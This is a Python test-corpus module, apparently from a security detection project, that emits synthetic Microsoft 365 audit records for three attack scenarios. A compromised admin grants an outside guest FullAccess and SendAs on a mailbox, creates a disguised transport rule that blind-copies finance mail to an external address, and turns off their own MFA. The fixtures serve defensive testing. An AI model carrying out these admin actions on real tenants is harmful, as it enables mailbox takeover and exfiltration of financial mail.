"""Attack stories on privileged accounts: a compromised Exchange admin, global admin and
authentication administrator (each a labelled compromised account; see ``corpus.build_corpus``).
"""

from tests.quality.corpus.attacks import at
from tests.quality.corpus.emit import Emitter
from tests.quality.corpus.intrusion import intrusion, risky
from tests.quality.corpus.network import DIGITALOCEAN_IN, LAGOS
from tests.quality.corpus.records.directory import mfa_requirement, update_user
from tests.quality.corpus.records.exchange import cmdlet
from tests.quality.corpus.tenant import ORGANIZATION, Person, Tenant


def delegation_outsider(em: Emitter, tenant: Tenant, victim: Person, impacted: Person) -> None:
    """A compromised Exchange admin gives an outside guest full access and Send As on the boss's mailbox."""
    ip, _ = intrusion(
        em,
        victim,
        at(10, 2.0),
        DIGITALOCEAN_IN,
        risk=risky("medium", "unfamiliarFeatures"),
        app="Office 365 Exchange Online",
    )
    guest = f"dmercer_protonmail.com#EXT#@{ORGANIZATION}"
    cmdlet(
        em,
        victim,
        at(10, 2.3),
        "Add-MailboxPermission",
        [
            ("Identity", impacted.display_name),
            ("User", guest),
            ("AccessRights", "FullAccess"),
            ("InheritanceType", "All"),
            ("AutoMapping", "False"),
        ],
        ip=ip,
        object_id=impacted.display_name,
        admin=True,
    )
    cmdlet(
        em,
        victim,
        at(10, 2.35),
        "Add-RecipientPermission",
        [("Identity", impacted.alias), ("Trustee", guest), ("AccessRights", "SendAs"), ("Confirm", "False")],
        ip=ip,
        object_id=impacted.alias,
        admin=True,
    )


def transport_rule(em: Emitter, tenant: Tenant, victim: Person) -> None:
    """A compromised admin blind-copies every finance mail of the company to an outside address."""
    ip, _ = intrusion(
        em,
        victim,
        at(11, 0.5),
        LAGOS,
        risk=risky("high", "unfamiliarFeatures", "unlikelyTravel"),
        app="Office 365 Exchange Online",
    )
    cmdlet(
        em,
        victim,
        at(11, 0.8),
        "New-TransportRule",
        [
            ("Name", "Retention journal"),
            ("SubjectOrBodyContainsWords", "invoice;payment;remittance;bank details"),
            ("BlindCopyTo", "journal@mailvault-backup.com"),
            ("Mode", "Enforce"),
            ("Enabled", "True"),
        ],
        ip=ip,
        object_id="Retention journal",
        admin=True,
    )


def mfa_disabled(em: Emitter, tenant: Tenant, victim: Person) -> None:
    """A compromised authentication administrator turns per-user MFA off on their own account."""
    ip, _ = intrusion(em, victim, at(8, 2.0), LAGOS, risk=risky("high", "unfamiliarFeatures"), app="Azure Portal")
    update_user(
        em,
        victim,
        victim,
        at(8, 2.2),
        [("StrongAuthenticationRequirement", mfa_requirement(1), mfa_requirement(0))],
        ip=ip,
    )
